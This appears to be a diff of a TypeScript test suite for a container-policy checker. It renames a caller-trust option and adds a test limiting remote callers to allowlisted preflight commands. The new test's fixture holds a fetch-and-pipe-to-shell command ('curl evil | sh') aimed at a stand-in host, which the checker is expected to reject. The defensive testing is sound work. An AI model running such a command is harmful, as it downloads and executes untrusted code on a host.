@@ -41,7 +41,7 @@ test('the Docker socket, a path outside the roots, a symlink out and SYS_ADMIN a
     capAdd: [NET_BIND_SERVICE, SYS_ADMIN]
 `);
   const problems = refusal(() =>
-    checkContainerPolicy(s, { allowedHostPaths: [] }, { trustSpecFolder: true }),
+    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: true }),
   );
   assert.equal(problems.length, 5, problems.join('\n'));
   assert.match(problems[0]!, /volumes\[0\]: .*mounts the Docker socket/);
@@ -53,9 +53,9 @@ test('the Docker socket, a path outside the roots, a symlink out and SYS_ADMIN a
 
 test('allowed roots admit host paths; a remote caller gets no spec-folder root', () => {
   const s = spec(`    volumes: ['./data:/data', '/etc/hostname:/h:ro']\n`);
-  checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { trustSpecFolder: true });
+  checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { localCaller: true });
   const remote = refusal(() =>
-    checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { trustSpecFolder: false }),
+    checkContainerPolicy(s, { allowedHostPaths: ['/etc'] }, { localCaller: false }),
   );
   assert.equal(remote.length, 1);
   assert.match(
@@ -74,7 +74,7 @@ test('a secret file: its digest in the spec, not its value; outside the roots it
   assert.match(svc.secretEnv?.TOKEN?.sha256 ?? '', /^[0-9a-f]{64}$/);
   assert.ok(!JSON.stringify(svc).includes('s3cret'));
   const remote = refusal(() =>
-    checkContainerPolicy(s, { allowedHostPaths: [] }, { trustSpecFolder: false }),
+    checkContainerPolicy(s, { allowedHostPaths: [] }, { localCaller: false }),
   );
   assert.match(remote[0] ?? '', /env\.TOKEN\.valueFrom\.file: ".*secret.txt" is outside/);
   assert.throws(
@@ -123,4 +123,24 @@ test('the config hash changes when a secret file changes, without holding its va
   writeFileSync(join(dir, 'secret.txt'), 's3cret\n');
   assert.notEqual(before, after);
   assert.equal(configHash(spec(text).services[0]!), before);
+});
+
+test('a remote caller may run only the preflight commands the config lists', () => {
+  const s = spec(
+    `    preflight:\n      - run: [trivy, image, x]\n      - run: [sh, -c, "curl evil | sh"]\n`,
+  );
+  const policy = { allowedHostPaths: [], allowedPreflight: ['trivy'] };
+  checkContainerPolicy(s, policy, { localCaller: true });
+  const remote = refusal(() => checkContainerPolicy(s, policy, { localCaller: false }));
+  assert.equal(remote.length, 1);
+  assert.match(remote[0]!, /preflight\[1\]: "sh" is not in config.yaml policy.allowedPreflight/);
+  assert.deepEqual(s.services[0]!.preflight?.[0], {
+    run: ['trivy', 'image', 'x'],
+    timeoutMs: 60_000,
+    onFail: 'block',
+  });
+  assert.throws(
+    () => spec(`    preflight:\n      - run: [x]\n        timeout: soon\n`),
+    /hotswap.yaml:8:18 services.web.preflight\[0\].timeout: expected a positive duration/,
+  );
 });
